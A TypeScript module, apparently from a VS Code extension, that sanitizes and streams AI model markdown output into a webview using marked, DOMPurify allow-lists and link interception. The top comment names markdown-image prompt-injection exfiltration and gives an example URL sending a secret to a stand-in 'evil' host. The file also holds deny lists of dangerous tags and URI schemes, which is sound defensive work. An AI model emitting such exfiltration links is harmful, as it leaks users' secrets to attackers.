/**
 * Model output → DOM. Markdown is parsed by `marked` and every fragment goes through DOMPurify
 * with a strict allow-list before it touches the document. On top of that:
 *
 * - Raw HTML in the model's answer is shown as text (escaped), never interpreted: an answer that
 *   says "use a <details> element" shows the tag instead of silently swallowing it, and no markup
 *   from a model reaches DOMPurify except what marked itself generates.
 * - Images are never loaded. A markdown image becomes a link labelled with its alt text: a remote
 *   image is a request the user did not make (the classic prompt-injection exfiltration channel,
 *   `![](https://evil/?q=<secret>)`), the CSP blocks remote images anyway, and data: images in
 *   answers are too rare to be worth an exception.
 * - Links keep only http(s) and mailto URLs (DOMPurify drops any other href: javascript:, data:,
 *   vbscript:, command:, file:, relative…). Clicks never navigate inside the webview; the views
 *   turn them into an `openLink` message (see `interceptLinks`).
 *
 * `StreamingMarkdown` renders an answer while it streams with work per chunk independent of the
 * answer's length: completed blocks (text up to a blank line outside a code fence) are rendered
 * once and frozen; only the trailing open block is re-rendered, at most once per animation frame.
 */
import DOMPurify, { type Config } from 'dompurify';
import hljs from 'highlight.js/lib/core';
import bash from 'highlight.js/lib/languages/bash';
import css from 'highlight.js/lib/languages/css';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import python from 'highlight.js/lib/languages/python';
import typescript from 'highlight.js/lib/languages/typescript';
import xml from 'highlight.js/lib/languages/xml';
import { Marked, type Tokens } from 'marked';

for (const [name, lang] of Object.entries({ bash, css, javascript, json, python, typescript, xml })) hljs.registerLanguage(name, lang);
hljs.registerAliases(['sh', 'shell', 'zsh', 'console'], { languageName: 'bash' });
hljs.registerAliases(['html', 'svg', 'xhtml'], { languageName: 'xml' });
hljs.registerAliases(['js', 'jsx', 'mjs', 'cjs'], { languageName: 'javascript' });
hljs.registerAliases(['ts', 'tsx', 'mts', 'cts'], { languageName: 'typescript' });
hljs.registerAliases(['py'], { languageName: 'python' });

function escapeHtml(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

/** The language word of a fence info string ("ts title=x" → "ts"), restricted to a safe charset. */
function fenceLanguage(info: string | undefined): string {
  const word = (info ?? '').trim().split(/\s+/)[0] ?? '';
  return /^[A-Za-z0-9_+#.-]{1,32}$/.test(word) ? word : '';
}

const marked = new Marked({
  gfm: true,
  breaks: false,
  async: false,
  renderer: {
    // Raw HTML (block or inline) is text.
    html(token: Tokens.HTML | Tokens.Tag): string {
      return escapeHtml(token.text);
    },
    // No images: a link to the image, labelled with its alt text (DOMPurify still vets the URL).
    image(token: Tokens.Image): string {
      const label = `🖼 ${token.text || 'image'}`;
      return `<a href="${escapeHtml(token.href)}">${escapeHtml(label)}</a>`;
    },
    code(token: Tokens.Code): string {
      const lang = fenceLanguage(token.lang);
      let body = escapeHtml(token.text);
      if (lang && hljs.getLanguage(lang)) {
        try {
          body = hljs.highlight(token.text, { language: lang, ignoreIllegals: true }).value;
        } catch {
          // keep the escaped text
        }
      }
      return `<div class="code-block"><div class="code-head"><span class="code-lang">${escapeHtml(lang || 'text')}</span></div><pre><code class="hljs">${body}</code></pre></div>`;
    },
  },
});

/** What survives sanitizing: formatting, lists, tables, code, links. Nothing active, no media, no forms. */
export const SANITIZE_CONFIG: Config = {
  ALLOWED_TAGS: [
    'a',
    'b',
    'blockquote',
    'br',
    'code',
    'del',
    'div',
    'em',
    'h1',
    'h2',
    'h3',
    'h4',
    'h5',
    'h6',
    'hr',
    'i',
    'li',
    'ol',
    'p',
    'pre',
    's',
    'span',
    'strong',
    'sub',
    'sup',
    'table',
    'tbody',
    'td',
    'th',
    'thead',
    'tr',
    'ul',
  ],
  ALLOWED_ATTR: ['href', 'title', 'class', 'start', 'align'],
  // Belt and braces: these are not in the allow-list either.
  FORBID_TAGS: [
    'script',
    'style',
    'iframe',
    'frame',
    'object',
    'embed',
    'form',
    'input',
    'button',
    'textarea',
    'select',
    'svg',
    'math',
    'img',
    'video',
    'audio',
    'source',
    'link',
    'meta',
    'base',
    'template',
  ],
  FORBID_ATTR: ['style', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'background', 'poster'],
  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:)/i,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  ALLOW_UNKNOWN_PROTOCOLS: false,
  SAFE_FOR_TEMPLATES: false,
  WHOLE_DOCUMENT: false,
  KEEP_CONTENT: true,
};

let hooked = false;
function purify(html: string): DocumentFragment {
  if (!hooked) {
    hooked = true;
    DOMPurify.addHook('uponSanitizeAttribute', (_node, data) => {
      // No event handlers, whatever the allow-list says.
      if (/^on/i.test(data.attrName)) data.keepAttr = false;
    });
    DOMPurify.addHook('afterSanitizeAttributes', (node) => {
      if (node.tagName === 'A') {
        const href = node.getAttribute('href');
        if (href !== null && !/^(?:https?:|mailto:)/i.test(href.trim())) node.removeAttribute('href');
        if (node.hasAttribute('href')) node.setAttribute('title', node.getAttribute('href')!);
      }
    });
  }
  return DOMPurify.sanitize(html, { ...SANITIZE_CONFIG, RETURN_DOM_FRAGMENT: true }) as DocumentFragment;
}

/** Markdown → a sanitized fragment, ready to append. */
export function renderMarkdown(source: string): DocumentFragment {
  return purify(marked.parse(source, { async: false }) as string);
}

/** The text of a code block element (as rendered by renderMarkdown). */
export function codeOf(block: Element): string {
  return block.querySelector('pre > code')?.textContent ?? '';
}

const FENCE = /^\s*(`{3,}|~{3,})(.*)$/;
/** At most 4 parse-and-sanitize updates per second while streaming (plain words and open code still update every frame). */
const HEAVY_INTERVAL_MS = 250;
/** Text that means the same in markdown as in plain text (no syntax, no line break, no URL). */
const PLAIN_WORDS = /^[\p{L}\p{N} ,.;'"?]+$/u;
/** The last non-blank text node under `el` (the renderer ends blocks with a "\n" text node). */
function lastText(el: Node): Text | null {
  let node: Node | null = el.lastChild;
  while (node) {
    if (node.nodeType === Node.TEXT_NODE) {
      if ((node as Text).data.trim()) return node as Text;
      node = node.previousSibling;
    } else if (node.nodeType === Node.ELEMENT_NODE && node.lastChild) node = node.lastChild;
    else return null;
  }
  return null;
}

/** Elements whose trailing text a plain-words chunk may extend. */
const TEXT_BLOCKS = new Set(['P', 'LI', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'TD', 'TH']);

/**
 * An answer being streamed into `root`. `append` is cheap (buffers); the DOM is updated from
 * animation frames. The text is cut into blocks as it arrives — at blank lines outside code fences,
 * before a fence opens and after it closes — and each completed block is rendered once (parsed,
 * highlighted, sanitized) into a frozen element. Only the open block at the end is redrawn per
 * frame: plain words added to a paragraph are appended to its last text node, anything else
 * re-renders the open paragraph or list (it is short; at most every HEAVY_INTERVAL_MS, as is
 * freezing), and an open code fence is shown as plain
 * text in the same code-block frame (highlighting waits until the fence closes), so a long code
 * block costs nothing per frame beyond updating one text node. Scanning is incremental (each
 * character is scanned once): the work per chunk is bounded by the open block, never the answer.
 */
export class StreamingMarkdown {
  private readonly root: HTMLElement;
  private readonly live: HTMLElement;
  private readonly onRender: (added: HTMLElement) => void;
  /** Text after the last frozen block. */
  private tail = '';
  /** How far `tail` has been scanned (always at a line start). */
  private scanned = 0;
  /** Where the completed blocks in `tail` end (0: none yet). */
  private boundary = 0;
  /** The open fence's marker (``` or ~~~…) while inside a code block. */
  private fence: string | null = null;
  /** The open fence's language and the text node showing its code, while it is drawn as plain text. */
  private openCode: { lang: string; text: Text } | null = null;
  /** The tail as the live element shows it ('' after a freeze). */
  private drawn = '';
  /** When the last parse-and-sanitize update ran. */
  private lastHeavy = -Infinity;
  private frame = 0;
  private wait: ReturnType<typeof setTimeout> | 0 = 0;

  constructor(root: HTMLElement, onRender: (added: HTMLElement) => void = () => {}) {
    this.root = root;
    this.onRender = onRender;
    this.live = document.createElement('div');
    this.live.className = 'md-live';
    root.append(this.live);
  }

  append(text: string): void {
    if (!text) return;
    this.tail += text;
    this.schedule();
  }

  /**
   * Brings the DOM up to date now, rendering the open block with the full renderer (the views call
   * it when they have the whole answer so far, e.g. once it is complete). An open code fence too:
   * its last line may close it without a line break after it ("…\n```"), which the renderer sees.
   */
  flush(): void {
    this.update(true);
  }

  private schedule(): void {
    // While a parse-and-sanitize update waits for its turn, nothing cheaper can be drawn either:
    // the timer schedules the next frame when that turn comes.
    if (!this.frame && !this.wait) this.frame = requestAnimationFrame(() => this.update(false));
  }

  /** Come back when a parse-and-sanitize update is allowed again. */
  private waitForHeavy(): void {
    if (this.wait) return;
    const delay = Math.max(0, this.lastHeavy + HEAVY_INTERVAL_MS - performance.now());
    this.wait = setTimeout(() => {
      this.wait = 0;
      this.schedule();
    }, delay);
  }

  /**
   * One animation frame's update. The cheap updates (plain words appended to the open paragraph,
   * the open code fence's text) happen every frame; the ones that parse and sanitize (freezing
   * completed blocks, re-rendering the open paragraph or list) at most every HEAVY_INTERVAL_MS,
   * so a long, fast stream costs a bounded number of renders per second, not one per frame.
   */
  private update(force: boolean): void {
    if (this.frame) cancelAnimationFrame(this.frame);
    this.frame = 0;
    if (force && this.wait) {
      clearTimeout(this.wait);
      this.wait = 0;
    }
    this.scan();
    const heavyDue = force || performance.now() - this.lastHeavy >= HEAVY_INTERVAL_MS;
    if (this.boundary > 0) {
      if (!heavyDue) return this.waitForHeavy();
      const done = document.createElement('div');
      done.className = 'md-block';
      done.append(renderMarkdown(this.tail.slice(0, this.boundary)));
      this.root.insertBefore(done, this.live);
      this.onRender(done);
      this.tail = this.tail.slice(this.boundary);
      this.scanned -= this.boundary;
      this.boundary = 0;
      this.openCode = null;
      this.drawn = '';
      this.live.replaceChildren();
      this.lastHeavy = performance.now();
    }
    if (this.fence !== null && !force) this.drawOpenCode();
    else if (this.tail === this.drawn) return;
    else if (this.fence !== null || !this.extendText()) {
      if (!heavyDue) return this.waitForHeavy();
      this.openCode = null;
      this.live.replaceChildren(renderMarkdown(this.tail));
      this.drawn = this.tail;
      this.lastHeavy = performance.now();
    }
    this.onRender(this.live);
  }

  /**
   * The common case of a paragraph growing by plain words: when the text added since the last draw
   * has no markdown syntax in it (letters, digits, spaces and plain punctuation, no line break) and
   * the open block ends in plain text, the new words are appended to that text node instead of
   * re-rendering the block. Anything else (and every completed block) goes through the renderer.
   */
  private extendText(): boolean {
    const drawn = this.drawn;
    if (!drawn || this.tail.length <= drawn.length || !this.tail.startsWith(drawn) || /\s$/.test(drawn)) return false;
    const added = this.tail.slice(drawn.length);
    if (!PLAIN_WORDS.test(added)) return false;
    const leaf = lastText(this.live);
    const parent = leaf?.parentElement;
    if (!leaf || !parent || !TEXT_BLOCKS.has(parent.tagName) || lastText(parent) !== leaf) return false;
    leaf.appendData(added);
    this.drawn = this.tail;
    return true;
  }

  /** The tail is an open code fence (it starts with the fence line): its code as plain text. */
  private drawOpenCode(): void {
    const nl = this.tail.indexOf('\n');
    const lang = fenceLanguage(FENCE.exec(nl < 0 ? this.tail : this.tail.slice(0, nl))?.[2]);
    let code = nl < 0 ? '' : this.tail.slice(nl + 1);
    // A closing fence still being typed ("…\n``") is not code.
    const lastNl = code.lastIndexOf('\n');
    if (/^\s*(`+|~+)$/.test(code.slice(lastNl + 1))) code = code.slice(0, lastNl + 1);
    if (this.openCode && this.openCode.lang === lang) {
      if (this.openCode.text.data !== code) this.openCode.text.data = code;
      return;
    }
    const text = document.createTextNode(code);
    const label = document.createElement('span');
    label.className = 'code-lang';
    label.textContent = lang || 'text';
    const head = document.createElement('div');
    head.className = 'code-head';
    head.append(label);
    const el = document.createElement('code');
    el.className = 'hljs';
    el.append(text);
    const pre = document.createElement('pre');
    pre.append(el);
    const block = document.createElement('div');
    block.className = 'code-block streaming';
    block.append(head, pre);
    this.live.replaceChildren(block);
    this.openCode = { lang, text };
  }

  /** Scans the complete lines added since the last scan for fences and blank lines. */
  private scan(): void {
    const s = this.tail;
    let i = this.scanned;
    for (;;) {
      const nl = s.indexOf('\n', i);
      if (nl < 0) break;
      const line = s.slice(i, nl);
      const m = FENCE.exec(line);
      if (this.fence === null) {
        if (m && !(m[1]![0] === '`' && m[2]!.includes('`'))) {
          // A fence opens: what came before it is complete.
          this.fence = m[1]!;
          if (i > 0) this.boundary = i;
        } else if (line.trim() === '' && i > 0) this.boundary = nl + 1;
      } else if (m && m[1]![0] === this.fence[0] && m[1]!.length >= this.fence.length && m[2]!.trim() === '') {
        // The fence closes: the code block is complete.
        this.fence = null;
        this.boundary = nl + 1;
      }
      i = nl + 1;
    }
    this.scanned = i;
  }

  dispose(): void {
    if (this.frame) cancelAnimationFrame(this.frame);
    if (this.wait) clearTimeout(this.wait);
    this.frame = 0;
    this.wait = 0;
  }
}

/**
 * Links in model output never navigate the webview (nor reach VS Code's own link handling):
 * a click on an http(s) link calls `open(url)`; every other click on a link is swallowed.
 */
export function interceptLinks(root: HTMLElement, open: (url: string) => void): void {
  const handler = (e: MouseEvent): void => {
    const a = (e.target as Element | null)?.closest?.('a');
    if (!a || !root.contains(a)) return;
    e.preventDefault();
    e.stopPropagation();
    if (e.type !== 'click' && !(e.type === 'auxclick' && e.button === 1)) return;
    const href = a.getAttribute('href') ?? '';
    if (/^https?:\/\//i.test(href)) open(href);
  };
  root.addEventListener('click', handler);
  root.addEventListener('auxclick', handler);
}
